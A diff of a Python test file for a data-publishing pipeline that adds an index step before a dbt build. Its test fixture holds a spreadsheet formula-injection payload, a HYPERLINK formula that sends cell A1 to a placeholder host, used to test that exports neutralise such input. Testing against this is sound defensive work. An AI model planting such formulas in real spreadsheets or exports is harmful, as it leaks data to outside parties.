@@ -16,7 +16,7 @@ import pytest
 from panro.publish import publish
 from panro.settings import DataDirs
 from panro.transform import run_dbt
-from tests.support.published import M, epoch_ms, write_published, write_small_delivery
+from tests.support.published import M, epoch_ms, index_published, write_published, write_small_delivery
 
 # a campaign name as a partner may deliver it: text that Excel would run as a formula
 FORMULA_CAMPAIGN = '=HYPERLINK("http://example.invalid/?leak="&A1,"쿠폰 확인")'
@@ -31,6 +31,7 @@ def publish_small_delivery(root: Path) -> DataDirs:
          "campaign_name": FORMULA_CAMPAIGN, "face_value_krw": 1000, "biz_reg_no": M[8], "order_id": None,
          "order_amount_krw": None, "event_ts": epoch_ms("2023-05-07T01:00:00+00:00")},
     ])
+    index_published(dirs)     # as the gate does: the zone's table of contents, which the report reads too
     run = run_dbt(dirs, "build", exclude="resource_type:unit_test")
     assert run.success, run.summary()
     publish(dirs, "small-run")
